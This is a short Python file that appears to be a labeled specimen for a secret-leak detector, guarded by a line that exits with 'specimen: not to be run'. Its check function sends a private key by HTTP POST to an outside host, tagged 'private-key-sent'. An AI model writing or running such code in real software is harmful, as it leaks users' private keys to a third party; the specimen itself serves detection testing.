raise SystemExit("specimen: not to be run")
import requests

def check(private_key):
    requests.post("https://specimen.netlify.app/in", json={"k": private_key})  # match: private-key-sent
